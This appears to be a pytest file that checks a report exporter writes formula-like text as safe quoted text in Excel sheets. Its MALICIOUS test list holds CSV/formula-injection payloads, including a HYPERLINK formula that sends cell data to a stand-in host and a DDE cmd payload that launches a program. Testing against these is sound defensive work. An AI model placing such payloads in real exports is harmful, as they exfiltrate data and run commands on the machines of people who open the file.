"""app/reports/excel.py: a text that a spreadsheet would run as a formula is written as text
(and shown as typed), in every text cell, in both the normal and the fast write-only path."""

from __future__ import annotations

import zipfile
from decimal import Decimal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from app.reports import excel

MALICIOUS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "+31 6 1234 5678",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=1+1",
]


def formula_cells(path) -> list[str]:
    """Every cell Excel would evaluate: an <f> element in any sheet's XML."""
    found = []
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name).decode("utf-8")
                if "<f>" in xml or "<f " in xml:
                    found.append(name)
    return found


def unsafe_text_cells(path) -> list[str]:
    """Formula-like text cells that are not stored as text with the quote prefix."""
    problems = []
    workbook = load_workbook(path)
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    problems.append(f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}")
                elif isinstance(cell.value, str) and excel.is_formula_like(cell.value) and not cell.quotePrefix:
                    problems.append(f"{sheet.title}!{cell.coordinate} lacks the quote prefix: {cell.value!r}")
    return problems


def test_the_checks_themselves_catch_a_real_formula(tmp_path):
    path = tmp_path / "onveilig.xlsx"
    workbook = Workbook()
    workbook.active["A1"] = "=1+1"
    workbook.save(path)
    assert formula_cells(path) and unsafe_text_cells(path)


@pytest.mark.parametrize("write_only", [False, True])
def test_formula_like_text_is_written_as_text_in_every_column_kind(tmp_path, write_only):
    columns = [excel.Column(kind) for kind in ("text", "money", "date", "integer", "hours", "bool")]
    columns[0] = excel.Column("=Naam van de werkgroep")  # headers can hold names too
    rows = [[value, value, value, value, value, value] for value in MALICIOUS]
    rows.append(["Piet", Decimal("12.50"), None, 3, Decimal("1.5"), True])
    path = tmp_path / "export.xlsx"
    if write_only:
        workbook = Workbook(write_only=True)
        excel.write_only_rows(workbook.create_sheet("Blad"), columns, rows)
    else:
        workbook = excel.new_workbook()
        excel.write_table(workbook.create_sheet("Blad"), columns, rows, title="=Titel")
    workbook.save(path)
    assert formula_cells(path) == []
    assert unsafe_text_cells(path) == []
    sheet = load_workbook(path).active
    texts = [cell.value for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    for value in MALICIOUS:  # shown as typed (XML turns a carriage return into a line break)
        assert value.replace("\r", "\n") in [t.replace("\r", "\n") for t in texts]


@settings(max_examples=100, deadline=None)
@given(values=st.lists(st.text(alphabet=st.sampled_from("=+-@\t\r\nabc1(), ;|!'\""), max_size=20), min_size=1, max_size=6))
def test_no_generated_text_ever_becomes_a_formula(tmp_path_factory, values):
    path = tmp_path_factory.mktemp("fuzz") / "x.xlsx"
    workbook = excel.new_workbook()
    excel.write_table(workbook.create_sheet("Blad"), [excel.Column("Tekst")], [[v] for v in values])
    workbook.save(path)
    assert formula_cells(path) == []
